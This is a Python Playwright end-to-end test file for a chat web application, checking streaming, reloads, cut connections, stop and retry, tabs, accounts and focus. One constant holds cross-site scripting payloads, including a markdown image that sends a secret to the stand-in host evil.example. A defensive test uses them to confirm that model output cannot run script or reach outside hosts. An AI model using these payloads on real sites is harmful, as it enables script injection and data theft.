"""The page in a real browser, against the real server."""

import asyncio
import contextlib
import re
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest_asyncio
from playwright.async_api import Locator, Page, Route, expect

from chat.protocol import events, recording
from chat.protocol.events import Event
from tests.connections import abort
from tests.equality import equal
from tests.faults.arena import environment
from tests.faults.upstream import Model, Script, upstream
from tests.servers.chromium import PATIENCE_MS
from tests.servers.wondercam import Serve, Share, WonderCam

HELLO = {"WONDERCAM_MODELS": "recording/hello"}
LONG = {"WONDERCAM_MODELS": "recording/long"}
SLOW = {**LONG, "WONDERCAM_RECORDING_SPEED": "0.3"}
SHARED: list[dict[str, str]] = [{}, HELLO, LONG, SLOW]
"""Settings of servers that no test stops."""
HELD = "words=40 hold=20"
"""A question to the script, whose answer stays in its middle until it is let."""
ATTACKS = (
    "<img src=x onerror=window.__pwned=1> <svg/onload=window.__pwned=1> <script>window.__pwned=1</script>\n\n"
    "[go](javascript:window.__pwned=1) [go](&#106;avascript:window.__pwned=1) ![x](http://evil.example/?q=SECRET)\n\n"
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe> <style>@import '//evil.example'</style>\n\n"
    "```html\n<script>window.__pwned=1</script>\n```\n\n| <img src=x onerror=window.__pwned=1> |\n|---|\n| x |\n"
)

Start = Callable[..., Awaitable[WonderCam]]


@pytest_asyncio.fixture(loop_scope="session")
async def start(serve: Serve, share: Share, page: Page) -> AsyncIterator[Start]:
    """Start a server, or find the shared one, and open its page, which is closed before the server stops."""

    async def start(env: dict[str, str]) -> WonderCam:
        server = await asyncio.to_thread(share if env in SHARED else serve, env)
        await page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        await page.goto(server.url)
        return server

    yield start
    await page.close()


@pytest_asyncio.fixture(loop_scope="session")
async def model() -> AsyncIterator[Model]:
    """A model that does what the question says."""
    async with upstream() as model:
        yield model


class Line:
    """What lies between a browser and the server, to be cut."""

    def __init__(self, port: int) -> None:
        self._port = port
        self._open: set[asyncio.StreamWriter] = set()
        self._tasks: set[asyncio.Task[None]] = set()
        self.cuts = 0

    async def __aenter__(self) -> "Line":
        self._server = await asyncio.start_server(self._connect, "127.0.0.1", 0)
        self.url = f"http://127.0.0.1:{self._server.sockets[0].getsockname()[1]}"
        return self

    async def __aexit__(self, *_: object) -> None:
        self._server.close()
        await asyncio.sleep(0)  # who has just been accepted is known after this
        self.cut()
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    def cut(self) -> None:
        """Every connection that is open breaks off at once, wherever it is."""
        for writer in self._open:
            abort(writer)
            self.cuts += 1
        self._open.clear()

    async def _connect(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        self._open.add(writer)
        try:
            back_reader, back = await asyncio.open_connection("127.0.0.1", self._port)
            self._open.add(back)
            await asyncio.gather(self._pass(reader, back), self._pass(back_reader, writer))
        finally:
            self._tasks.discard(task)

    async def _pass(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError):
            while data := await reader.read(65536):
                writer.write(data)
                await writer.drain()
        writer.close()
        self._open.discard(writer)


def answer(page: Page) -> Locator:
    """The newest answer."""
    return page.locator("article[data-role=model]").last


async def ask(page: Page, question: str) -> None:
    """Type and send."""
    await page.get_by_label("Your message").fill(question)
    await page.keyboard.press("Enter")


async def ended(page: Page, status: str, seconds: float = PATIENCE_MS / 1000) -> None:
    """The newest answer has come to this end, and all of it stands there."""
    await expect(answer(page)).to_have_attribute("data-status", status, timeout=seconds * 1000)
    await expect(page.locator("#transcript")).to_have_attribute("data-whole", "")


async def grown_to(page: Page, length: int) -> None:
    """The newest answer shows at least so many characters."""
    await page.wait_for_function(
        "length => [...document.querySelectorAll('article[data-role=model] [data-part=text]')].at(-1)"
        "?.textContent.length >= length",
        arg=length,
    )


UNTIL_COPIED = """async () => {
  for (;;) {
    const text = await navigator.clipboard.readText();
    if (text) return text;
    await new Promise(requestAnimationFrame);
  }
}"""
"""What is on the clipboard, once there is something. (`wait_for_function` takes a promise for an answer.)"""


async def copied(page: Page) -> str:
    """The newest answer's text, by its copy button."""
    await page.evaluate("navigator.clipboard.writeText('')")
    await answer(page).get_by_label("Copy this answer").click()
    return str(await page.evaluate(UNTIL_COPIED))


async def assert_equal_everywhere(page: Page, server: WonderCam) -> None:
    """The page's text is the database's, that of every reader, and the reviewer's."""
    stream = str(await answer(page).get_attribute("data-stream"))
    shown = await copied(page)
    assert shown
    assert shown == await equal(server, await token_of(page), stream, replay=False)


async def token_of(page: Page) -> str:
    """An access token of the page's reader, by its session."""
    cookies = {cookie["name"]: cookie["value"] for cookie in await page.context.cookies()}
    csrf = next(value for name, value in cookies.items() if "csrf" in name)
    origin = "/".join(page.url.split("/")[:3])
    headers = {"X-CSRFToken": csrf, "Origin": origin, "Sec-Fetch-Site": "same-origin"}
    answered = await page.context.request.post(f"{origin}/v2/auth/session", headers=headers)
    assert answered.ok, await answered.text()
    return str((await answered.json())["access"])


async def test_a_guest_asks_the_embedded_model_and_reloads_in_the_middle(page: Page, start: Start) -> None:
    server = await start({})
    await ask(page, "Tell me a story about a lighthouse, in ten sentences.")
    await expect(page.locator("article[data-role=user] [data-part=mark]")).to_have_text("Sent")
    await expect(answer(page)).to_have_attribute("data-status", "running")
    await grown_to(page, 1)
    before = len(await answer(page).locator("[data-part=text]").inner_text())
    await grown_to(page, before + 20)
    await expect(answer(page)).to_have_attribute("data-status", "running")
    await page.reload()
    await ended(page, "complete")
    assert "/c/" in page.url
    await assert_equal_everywhere(page, server)


async def test_a_reload_in_the_middle_of_an_answer_gives_the_whole_answer(page: Page, start: Start) -> None:
    server = await start(SLOW)
    await ask(page, "Why is the sky blue?")
    await grown_to(page, 40)
    await page.reload()
    await expect(answer(page)).to_have_attribute("data-status", "running")
    await grown_to(page, 40)
    await ended(page, "complete")
    await assert_equal_everywhere(page, server)
    await expect(answer(page).locator("math").first).to_be_attached()  # what reads formulas comes later
    live = await answer(page).locator("[data-part=text]").inner_html()
    await page.reload()
    await expect(page.locator("article figure figcaption").first).to_be_visible()
    await expect(page.locator("#transcript")).to_have_attribute("data-whole", "")
    await expect(answer(page).locator("math").first).to_be_attached()
    assert without_colours(await answer(page).locator("[data-part=text]").inner_html()) == without_colours(live)


def without_colours(html: str) -> str:
    """The highlighter comes when it is loaded; what it colours does not change."""
    return re.sub(r"</?span[^>]*>", "", html)


async def test_the_line_drops_and_the_answer_goes_on_without_a_second_question(page: Page, start: Start) -> None:
    server = await start(LONG)
    posts: list[str] = []
    page.on("request", lambda sent: posts.append(sent.url) if sent.url.endswith("/v2/echat") else None)
    async with Line(server.port) as line:
        await page.goto(line.url)
        await ask(page, "Why is the sky blue?")
        for length in (40, 400, 800):
            await grown_to(page, length)
            line.cut()
        await ended(page, "complete")
        assert line.cuts >= 3
        assert len(posts) == 1
        await assert_equal_everywhere(page, server)


async def test_stop_keeps_what_was_written_and_try_again_answers_anew(page: Page, start: Start, model: Model) -> None:
    server = await start(environment(model.url))
    await ask(page, HELD)
    await grown_to(page, 40)
    await page.get_by_label("Stop the answer").click()
    await ended(page, "stopped")
    assert await copied(page) == "".join(Script(words=20).said())
    await assert_equal_everywhere(page, server)
    await expect(answer(page)).to_contain_text("This answer was stopped.")
    model.let()
    await page.get_by_role("button", name="Try again").click()
    await ended(page, "complete")
    await expect(page.locator("article")).to_have_count(2)
    await assert_equal_everywhere(page, server)


async def test_stop_works_before_the_first_word(page: Page, start: Start) -> None:
    await start({"WONDERCAM_MODELS": "recording/long", "WONDERCAM_RECORDING_SPEED": "0.05"})
    await ask(page, "Why is the sky blue?")
    await page.get_by_label("Stop the answer").click()
    await ended(page, "stopped")


def letters(text: str) -> str:
    """A text without marks and spaces: while more may come, an open emphasis and a paragraph look otherwise."""
    return "".join(text.replace("*", "").split())


async def test_a_server_killed_in_the_middle_says_so_and_offers_another_try(
    page: Page, start: Start, model: Model
) -> None:
    server = await start(environment(model.url))
    await ask(page, HELD)
    await grown_to(page, 40)
    server.kill9()
    await expect(answer(page).locator("[data-part=line]")).to_contain_text("connection was lost")
    shown = await answer(page).locator("[data-part=text]").inner_text()
    server.restart()
    await ended(page, "interrupted")
    after = await answer(page).locator("[data-part=text]").inner_text()
    assert letters(after).startswith(letters(shown))
    await expect(answer(page)).to_contain_text("went away in the middle")
    await page.reload()
    await expect(answer(page)).to_contain_text("went away in the middle")
    await assert_equal_everywhere(page, server)
    model.let()
    await page.get_by_role("button", name="Try again").click()
    await ended(page, "complete")


async def test_what_a_model_says_can_do_nothing(page: Page, start: Start, tmp_path: Path) -> None:
    text = [Event(n, n * 1000, events.encode(events.delta(letter))) for n, letter in enumerate(ATTACKS, 1)]
    end = Event(len(text) + 1, 10**6, events.encode(events.finish("STOP")))
    lines = recording.dump({"title": "attack"}, [Event(0, 0, events.OK_DATA), *text, end])
    (tmp_path / "attack.jsonl").write_text("".join(lines))
    foreign: list[str] = []
    page.on("request", lambda sent: foreign.append(sent.url) if "127.0.0.1" not in sent.url else None)
    server = await start({"WONDERCAM_MODELS": "recording/attack", "WONDERCAM_RECORDINGS": str(tmp_path)})
    await page.evaluate(
        "addEventListener('securitypolicyviolation', event => { window.__violation = event.violatedDirective })"
    )
    await ask(page, ATTACKS)
    await ended(page, "complete")
    await assert_equal_everywhere(page, server)
    await page.reload()
    await expect(page.locator("article figure figcaption").first).to_be_visible()
    assert await page.evaluate("[window.__pwned, window.__violation]") == [None, None]
    assert [url for url in foreign if not url.startswith("blob:")] == []
    made = await page.evaluate(
        "[...document.querySelectorAll('article :is(img, script, iframe, style, svg *)')].length"
    )
    assert made == await page.evaluate("document.querySelectorAll('article svg use').length")


async def test_no_token_is_kept_where_a_script_of_another_day_could_find_it(page: Page, start: Start) -> None:
    await start(HELLO)
    await ask(page, "Hello?")
    await ended(page, "complete")
    kept: Any = await page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
    assert "eyJ" not in kept
    assert "session" not in kept


async def test_a_draft_survives_a_reload_and_goes_when_it_is_stored(page: Page, start: Start) -> None:
    await start(HELLO)
    box = page.get_by_label("Your message")
    await box.fill("half a thou")
    await page.reload()
    await expect(box).to_have_value("half a thou")
    await box.press("Shift+Enter")
    await expect(box).to_have_value("half a thou\n")
    await box.press("Enter")
    await ended(page, "complete")
    await page.goto("/".join(page.url.split("/")[:3]))
    await expect(box).to_have_value("")


async def test_chats_are_renamed_pinned_and_deleted_in_the_sidebar(page: Page, start: Start) -> None:
    await start(HELLO)
    for question in ("First", "Second"):
        await page.goto("/".join(page.url.split("/")[:3]))
        await ask(page, question)
        await ended(page, "complete")
    rows = page.locator("#conversations li")
    await expect(rows).to_have_text(["Second", "First"], use_inner_text=True)
    await rows.last.hover()
    await rows.last.get_by_label("Pin").click()
    await expect(rows).to_have_text(["First", "Second"], use_inner_text=True)
    await rows.first.hover()
    await rows.first.get_by_label("Rename").click()
    await page.get_by_label("New name").fill("The very first")
    await page.keyboard.press("Enter")
    await expect(rows.first).to_contain_text("The very first")
    await page.reload()
    await expect(rows).to_have_text(["The very first", "Second"], use_inner_text=True)
    await rows.last.hover()
    await rows.last.get_by_label("Delete").click()
    await expect(rows).to_have_count(1)
    await page.wait_for_url(lambda url: "/c/" not in url)


async def test_a_guest_who_signs_up_keeps_the_chats_and_finds_them_after_signing_in(page: Page, start: Start) -> None:
    await start(HELLO)
    await ask(page, "Remember me")
    await ended(page, "complete")
    await page.get_by_role("link", name="Sign up").click()
    await page.get_by_label("Username").fill("ada")
    await page.get_by_label("Password", exact=True).fill("correct horse battery")
    await page.get_by_label("Password confirmation").fill("correct horse battery")
    await page.get_by_role("button", name="Sign up").click()
    await expect(page.locator("#conversations li")).to_have_text(["Remember me"], use_inner_text=True)
    await page.get_by_role("button", name="Sign out").click()
    await expect(page.locator("#conversations li")).to_have_count(0)
    await page.get_by_role("link", name="Sign in").click()
    await page.get_by_label("Username").fill("ada")
    await page.get_by_label("Password").fill("correct horse battery")
    await page.get_by_role("button", name="Sign in").click()
    await page.get_by_role("link", name="Remember me").click()
    await expect(answer(page)).to_have_attribute("data-status", "complete")


async def test_a_second_tab_follows_the_same_answer(page: Page, start: Start) -> None:
    server = await start(LONG)
    await ask(page, "Why is the sky blue?")
    await grown_to(page, 40)
    other = await page.context.new_page()
    await other.goto(page.url)
    await asyncio.gather(ended(page, "complete"), ended(other, "complete"))
    await assert_equal_everywhere(page, server)
    await assert_equal_everywhere(other, server)


async def test_a_tab_that_is_looked_at_again_shows_what_another_asked_meanwhile(page: Page, start: Start) -> None:
    server = await start(LONG)
    await ask(page, "Why is the sky blue?")
    await ended(page, "complete")
    other = await page.context.new_page()
    posts: list[str] = []
    other.on("request", lambda request: posts.append(request.url) if "echat" in request.url else None)
    await other.goto(page.url)
    await ended(other, "complete")
    await ask(page, "And at night?")
    await grown_to(page, 40)
    await other.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    await expect(other.locator("article")).to_have_count(4)
    await expect(other.locator("article[data-role=user]").last).to_contain_text("And at night?")
    await asyncio.gather(ended(page, "complete"), ended(other, "complete"))
    await assert_equal_everywhere(page, server)
    await assert_equal_everywhere(other, server)
    assert posts == []
    await ask(other, "Thank you.")
    await expect(other.locator("article")).to_have_count(6)
    await ended(other, "complete")


async def test_a_refused_question_says_why_and_is_not_lost(page: Page, start: Start) -> None:
    await start({**HELLO, "WONDERCAM_LIMIT_PROMPT_BYTES": "20"})
    await ask(page, "This is longer than twenty bytes.")
    await ended(page, "failed")
    await expect(answer(page).locator("[data-part=sentence]")).not_to_be_empty()
    await page.reload()
    await expect(page.get_by_label("Your message")).to_have_value("This is longer than twenty bytes.")


async def test_a_refusal_for_a_while_is_said_and_the_question_goes_out_again(page: Page, start: Start) -> None:
    await start(HELLO)
    refused: list[str] = []

    async def refuse_once(route: Route) -> None:
        if refused:
            return await route.continue_()
        refused.append(route.request.post_data_json["request_id"])
        message = "These questions come too fast. Try again in 5 s."
        body = {"error": {"code": 429, "status": "RESOURCE_EXHAUSTED", "message": message}}
        return await route.fulfill(status=429, json=body, headers={"Retry-After": "5"})

    await page.route("**/v2/echat", refuse_once)
    async with page.expect_response(lambda found: found.url.endswith("/v2/echat") and found.ok) as taken:
        await ask(page, "Hello?")
        await expect(answer(page).locator("[data-part=line]")).to_have_text(
            re.compile(r"These questions come too fast\. The page tries again by itself in \d s…")
        )
    assert (await taken.value).request.post_data_json["request_id"] == refused[0]
    await ended(page, "complete")
    await expect(page.locator("article")).to_have_count(2)


async def test_leaving_in_the_middle_of_an_answer_and_coming_back_shows_it_whole(page: Page, start: Start) -> None:
    server = await start(SLOW)
    await ask(page, "Why is the sky blue?")
    await grown_to(page, 40)
    await page.get_by_role("link", name="Sign up").click()
    await expect(page.get_by_label("Username")).to_be_visible()
    await page.go_back()
    await grown_to(page, 40)
    await expect(page.get_by_label("Your message")).to_have_value("")
    await ended(page, "complete")
    await expect(page.locator("article")).to_have_count(2)
    await assert_equal_everywhere(page, server)


async def test_the_keyboard_s_focus_is_never_lost(page: Page, start: Start) -> None:
    await start(HELLO)
    box = page.get_by_label("Your message")
    await expect(box).to_be_focused()
    await page.locator("[data-do=suggestion]:not([data-photo])").first.focus()
    await page.keyboard.press("Enter")
    await ended(page, "complete")
    await expect(box).to_be_focused()
    row = page.locator("#conversations li")
    await row.hover()
    await row.get_by_label("Rename").click()
    await expect(page.get_by_label("New name")).to_be_focused()
    await page.keyboard.press("Escape")
    await expect(row.get_by_role("link")).to_be_focused()
    await row.get_by_label("Delete").click()
    await expect(box).to_be_focused()  # the chat that was shown is gone, and a new one stands there
    await page.get_by_role("button", name="Undo").click()
    await expect(row.get_by_role("link")).to_be_focused()


async def test_an_unsent_question_keeps_its_key_over_a_reload_and_is_answered_once(page: Page, start: Start) -> None:
    server = await start(HELLO)
    keys: list[str] = []

    async def lose_the_answer(route: Route) -> None:
        keys.append(route.request.post_data_json["request_id"])
        if len(keys) == 1:
            await route.fetch()
            await route.abort()
        else:
            await route.continue_()

    await page.route("**/v2/echat", lose_the_answer)
    box = page.get_by_label("Your message")
    await page.evaluate("Math.random = () => 100")  # the page's own next try stays away
    await ask(page, "Hello?")
    await expect(answer(page).locator("[data-part=line]")).to_contain_text("Not sent yet")
    await page.reload()
    await expect(box).to_have_value("Hello?")
    await box.press("Enter")
    await ended(page, "complete")
    assert len(set(keys)) == 1
    await expect(page.locator("#conversations li")).to_have_count(1)
    await assert_equal_everywhere(page, server)
